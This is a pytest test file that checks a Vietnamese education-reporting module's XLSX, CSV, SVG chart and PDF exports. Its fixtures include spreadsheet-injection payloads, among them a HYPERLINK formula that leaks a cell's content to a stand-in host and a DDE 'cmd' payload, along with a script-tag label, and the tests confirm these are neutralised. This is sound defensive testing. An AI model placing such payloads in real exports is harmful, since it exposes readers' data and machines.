"""Report exports read back the way a manager (or an attacker) would open them: the
workbook with openpyxl, the CSV with the csv module, the PDF's text with pdftotext and
the charts as XML."""

import csv
import io
import subprocess
import xml.etree.ElementTree as ET
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from reports.exports import (
    SUPPRESSED,
    Column,
    Section,
    Table,
    bar_chart,
    line_chart,
    report_pdf,
    table_csv,
    tables_xlsx,
)
from reports.exports.charts import nice_ticks
from reports.exports.spreadsheet import sheet_names

SVG = "{http://www.w3.org/2000/svg}"
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1", "-x", "@SUM(A1)"]
HIDDEN_PREFIXES = ["\t=1+1", "\r=1+1", "  =1+1", " \t@x"]


def ethnic_table(**overrides) -> Table:
    fields = {
        "title": "Hoàn thành theo dân tộc và giới tính",
        "columns": [
            Column("unit", "Xã/phường"),
            Column("ethnic", "Dân tộc"),
            Column("enrolled", "Số học viên", numeric=True),
            Column("completed", "Hoàn thành", numeric=True),
            Column("rate", "Tỷ lệ (%)", numeric=True),
        ],
        "rows": [
            ["Thị trấn Đồng Đăng", "Nùng", 1234, 567, Decimal("45.95")],
            ["Xã Thất Khê", "Tày", 12, SUPPRESSED, 12.5],
            ["Phường Đông Kinh", "Kinh", -3, 0, None],
        ],
        "notes": ["Ô có dưới 5 người được ẩn (*)."],
    }
    fields.update(overrides)
    return Table(**fields)


def hostile_table() -> Table:
    rows = [[text, 1] for text in HOSTILE + HIDDEN_PREFIXES] + [["Nùng\x00\x07\x1b", -7]]
    return Table(
        title="=cmd|' /C calc'!A0",
        columns=[Column("name", "=Tên"), Column("n", "Số", numeric=True)],
        rows=rows,
        notes=["@ghi chú"],
    )


def workbook_of(*tables: Table):
    return load_workbook(io.BytesIO(tables_xlsx(list(tables))))


# --- XLSX ------------------------------------------------------------------------------


def test_xlsx_sheet_has_title_bold_header_rows_and_notes():
    sheet = workbook_of(ethnic_table()).worksheets[0]
    assert sheet.title == "Hoàn thành theo dân tộc và giới"  # cut at 31 characters
    assert sheet["A1"].value == "Hoàn thành theo dân tộc và giới tính"
    header = [cell.value for cell in sheet[2]]
    assert header == ["Xã/phường", "Dân tộc", "Số học viên", "Hoàn thành", "Tỷ lệ (%)"]
    assert all(cell.font.b for cell in sheet[2])
    assert [cell.value for cell in sheet[3]] == ["Thị trấn Đồng Đăng", "Nùng", 1234, 567, 45.95]
    assert [cell.value for cell in sheet[4]][2:] == [12, "*", 12.5]
    assert sheet["A7"].value == "Ô có dưới 5 người được ẩn (*)."
    assert sheet.freeze_panes == "A3"


def test_xlsx_stores_numbers_as_numbers_and_a_negative_number_unescaped():
    sheet = workbook_of(ethnic_table()).worksheets[0]
    for cell in (sheet["C3"], sheet["D3"], sheet["E3"], sheet["C5"]):
        assert cell.data_type == "n", cell.coordinate
        assert isinstance(cell.value, int | float)
    assert sheet["C5"].value == -3
    assert sheet["E5"].value is None
    assert sheet["C3"].number_format == "#,##0"
    assert sheet["E3"].number_format == "#,##0.00"


def test_xlsx_neutralises_formula_text_and_stores_it_as_a_string():
    sheet = workbook_of(hostile_table()).worksheets[0]
    texts = [
        row[0] for row in sheet.iter_rows(min_row=3, max_row=2 + len(HOSTILE + HIDDEN_PREFIXES))
    ]
    for cell, original in zip(texts, HOSTILE + HIDDEN_PREFIXES, strict=True):
        assert cell.value == "'" + original
        assert cell.data_type == "s"
    for coordinate in ("A1", "A2"):  # the title and a column label are user text too
        assert sheet[coordinate].value.startswith("'")
        assert sheet[coordinate].data_type == "s"
    notes = [c.value for c in sheet["A"] if c.value and "ghi chú" in c.value]
    assert notes == ["'@ghi chú"]
    assert sheet["B3"].value == 1 and sheet["B3"].data_type == "n"


def test_xlsx_drops_control_characters():
    sheet = workbook_of(hostile_table()).worksheets[0]
    last = 2 + len(hostile_table().rows)
    assert sheet[f"A{last}"].value == "Nùng"
    assert sheet[f"B{last}"].value == -7


def test_xlsx_column_widths_follow_the_content_within_bounds():
    long_name = "Trung tâm Giáo dục nghề nghiệp – Giáo dục thường xuyên huyện Tràng Định"
    table = ethnic_table(rows=[[long_name, "Nùng", 1, 1, 1]])
    sheet = workbook_of(table).worksheets[0]
    widths = {col: sheet.column_dimensions[col].width for col in "ABCDE"}
    assert widths["A"] > widths["B"]
    assert all(8 <= width <= 60 for width in widths.values()), widths


def test_sheet_names_are_safe_unique_and_short():
    titles = [
        "Báo cáo [2025]: Q1/Q2 *?\\",
        "Hoàn thành theo xã, phường và thị trấn",
        "HOÀN THÀNH THEO XÃ, PHƯỜNG VÀ THỊ TRẤN",
        "Hoàn thành theo xã, phường và thị trấn",
        "",
        "History",
        "'Trích dẫn'",
    ]
    names = sheet_names(titles)
    assert len({name.casefold() for name in names}) == len(titles)
    for name in names:
        assert 0 < len(name) <= 31
        assert not set(name) & set("[]:*?/\\")
        assert not name.startswith("'") and not name.endswith("'")
    assert names[0] == "Báo cáo -2025-- Q1-Q2 ---"
    assert names[2].endswith(" (2)") and names[3].endswith(" (3)")
    assert names[5].casefold() != "history"
    tables = [ethnic_table(title=title) for title in titles]
    assert workbook_of(*tables).sheetnames == names


def test_an_empty_list_of_tables_still_makes_a_workbook():
    assert len(workbook_of().worksheets) == 1


# --- CSV -------------------------------------------------------------------------------


def csv_rows(table: Table) -> list[list[str]]:
    data = table_csv(table)
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_has_labels_then_rows_with_vietnamese_intact():
    rows = csv_rows(ethnic_table())
    assert rows[0] == ["Xã/phường", "Dân tộc", "Số học viên", "Hoàn thành", "Tỷ lệ (%)"]
    assert rows[1] == ["Thị trấn Đồng Đăng", "Nùng", "1234", "567", "45.95"]
    assert rows[2] == ["Xã Thất Khê", "Tày", "12", "*", "12.5"]
    assert rows[3] == ["Phường Đông Kinh", "Kinh", "-3", "0", ""], "numbers are not escaped"
    assert len(rows) == 4, "notes stay out of a data file"


def test_csv_neutralises_formula_text():
    rows = csv_rows(hostile_table())
    assert rows[0][0] == "'=Tên"
    for row, original in zip(rows[1:], HOSTILE + HIDDEN_PREFIXES, strict=False):
        assert row == ["'" + original, "1"]
    assert rows[-1] == ["Nùng", "-7"]


# --- charts ----------------------------------------------------------------------------


def svg_texts(svg: str) -> list[str]:
    root = ET.fromstring(svg)
    return [element.text or "" for element in root.iter(f"{SVG}text")]


def test_bar_chart_escapes_labels_and_parses_as_xml():
    svg = bar_chart(
        ["<script>x()</script>", 'Xã "Đồng" & Đăng'],
        {"Nam": [3, 4]},
        "Báo cáo <b>",
    )
    root = ET.fromstring(svg)
    assert not [el for el in root.iter() if el.tag.endswith(("script", "b"))]
    assert "<script>" not in svg
    texts = svg_texts(svg)
    assert "Báo cáo <b>" in texts
    assert "<script>x()</script>" in texts
    assert 'Xã "Đồng" & Đăng' in texts
    assert len(root.findall(f"{SVG}rect")) == 2


def test_bar_chart_groups_series_with_a_legend_and_round_ticks():
    svg = bar_chart(
        ["Xã Bắc Sơn", "Xã Bình Gia", "Xã Cao Lộc"],
        {"Nam": [12, 30, 7], "Nữ": [15, None, 87]},
        "Hoàn thành theo giới tính",
    )
    root = ET.fromstring(svg)
    texts = svg_texts(svg)
    assert {"Nam", "Nữ"} <= set(texts), "a legend names each series"
    assert [t for t in texts if t in {"0", "20", "40", "60", "80", "100"}] == [
        "0",
        "20",
        "40",
        "60",
        "80",
        "100",
    ]
    bars = [r for r in root.findall(f"{SVG}rect") if r.get("width") != "12"]
    assert len(bars) == 5, "a missing value draws no bar"
    single = bar_chart(["Xã Bắc Sơn"], {"Nam": [12]}, "Một dãy")
    assert "Nam" not in svg_texts(single), "no legend for a single series"


def test_long_labels_are_shortened_with_an_ellipsis_and_turned():
    long = "Trung tâm Giáo dục thường xuyên huyện Tràng Định"
    communes = ["Xã Hữu Lũng", "Xã Bắc Sơn", "Xã Bình Gia", "Xã Cao Lộc", "Xã Chi Lăng"]
    svg = bar_chart([long, *communes], {"Nam": [1, 2, 3, 4, 5, 6]}, "Dài")
    root = ET.fromstring(svg)
    labels = [el for el in root.iter(f"{SVG}text") if (el.text or "").startswith("Trung tâm")]
    assert len(labels) == 1
    assert labels[0].text.endswith("…") and len(labels[0].text) <= 24
    assert "rotate(-45" in labels[0].get("transform", "")
    assert "rotate(" not in bar_chart(communes[:2], {"Nam": [1, 2]}, "Ngắn"), "room enough"


def test_charts_are_deterministic():
    args = (["T1", "T2", "T3"], {"Nam": [1, 2.5, 3], "Nữ": [2, 2, 1]}, "Theo tháng")
    assert bar_chart(*args) == bar_chart(*args)
    assert line_chart(*args) == line_chart(*args)


def test_line_chart_breaks_at_a_missing_value():
    svg = line_chart(["T1", "T2", "T3", "T4", "T5"], {"Hoàn thành": [1, 2, None, 4, 5]}, "Tháng")
    root = ET.fromstring(svg)
    lines = root.findall(f"{SVG}polyline")
    assert len(lines) == 2
    assert all(len(line.get("points").split()) == 2 for line in lines)
    assert len(root.findall(f"{SVG}circle")) == 4


def test_an_empty_chart_says_so():
    assert "Không có dữ liệu" in svg_texts(bar_chart([], {}, "Trống"))


@pytest.mark.parametrize(
    ("low", "high", "ticks"),
    [
        (0, 87, [0, 20, 40, 60, 80, 100]),
        (0, 1234, [0, 500, 1000, 1500]),
        (-3, 30, [-10, 0, 10, 20, 30]),
        (0, 0.9, [0, 0.2, 0.4, 0.6, 0.8, 1.0]),
    ],
)
def test_ticks_are_round(low, high, ticks):
    assert nice_ticks(low, high) == ticks


# --- PDF -------------------------------------------------------------------------------


def run(*command: str) -> str:
    return subprocess.run(command, capture_output=True, text=True, check=True).stdout


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    """One rendered report for the PDF tests: rendering takes seconds."""
    long_table = Table(
        title="Học viên theo xã",
        columns=[Column("unit", "Xã/phường"), Column("n", "Số học viên", numeric=True)],
        rows=[[f"Xã số {i}", 1000 + i] for i in range(90)],
    )
    chart = bar_chart(
        ["Xã Bắc Sơn", "Xã Cao Lộc"],
        {"Dao": [30, 12], "Sán Chay": [25, 40]},
        "Biểu đồ hoàn thành theo dân tộc",
    )
    pdf = report_pdf(
        title="Báo cáo kết quả học tập",
        period_label="Quý I năm 2025",
        generated_at=datetime(2025, 4, 1, 1, 30, tzinfo=UTC),
        scope_label="Toàn tỉnh",
        sections=[
            Section("Tổng quan", text="Số liệu tính đến hết quý.", chart_svg=chart),
            Section("Theo dân tộc", table=ethnic_table(notes=[])),
            Section("Theo xã", table=long_table),
        ],
    )
    path = tmp_path_factory.mktemp("report") / "report.pdf"
    path.write_bytes(pdf)
    return path


def test_pdf_carries_vietnamese_title_period_scope_and_time(report):
    assert report.read_bytes().startswith(b"%PDF")
    text = run("pdftotext", "-layout", str(report), "-")
    for expected in ("Báo cáo kết quả học tập", "Quý I năm 2025", "Toàn tỉnh", "Tổng quan"):
        assert expected in text
    assert "08:30 01/04/2025" in text, "generation time in Vietnam's time zone"


def test_pdf_tables_show_formatted_values_and_suppressed_cells(report):
    text = run("pdftotext", "-layout", str(report), "-")
    assert "Thị trấn Đồng Đăng" in text and "Nùng" in text
    assert "1.234" in text and "45,95" in text and "12,5" in text
    row = next(line for line in text.splitlines() if "Xã Thất Khê" in line and "Tày" in line)
    assert row.split()[-2:] == ["*", "12,5"]
    assert "(*) Ô có quá ít người được ẩn" in text, "a default note explains the star"


def test_pdf_numbers_page_and_repeats_table_headers(report):
    pages = int(
        next(
            line for line in run("pdfinfo", str(report)).splitlines() if line.startswith("Pages:")
        ).split()[1]
    )
    assert pages >= 3
    for page in range(1, pages + 1):
        text = run("pdftotext", "-layout", "-f", str(page), "-l", str(page), str(report), "-")
        assert f"Trang {page}/{pages}" in text
    last = run("pdftotext", "-layout", "-f", str(pages), "-l", str(pages), str(report), "-")
    assert "Xã số 89" in last and "Số học viên" in last, "the header row starts every page"


def test_pdf_draws_the_chart_text_in_the_project_fonts(report):
    text = run("pdftotext", "-layout", str(report), "-")
    assert "Biểu đồ hoàn thành theo dân tộc" in text
    assert "Xã Bắc Sơn" in text and "Xã Cao Lộc" in text and "Sán Chay" in text
    fonts = run("pdffonts", str(report)).splitlines()[2:]
    assert fonts and all("noto-serif" in line for line in fonts), fonts
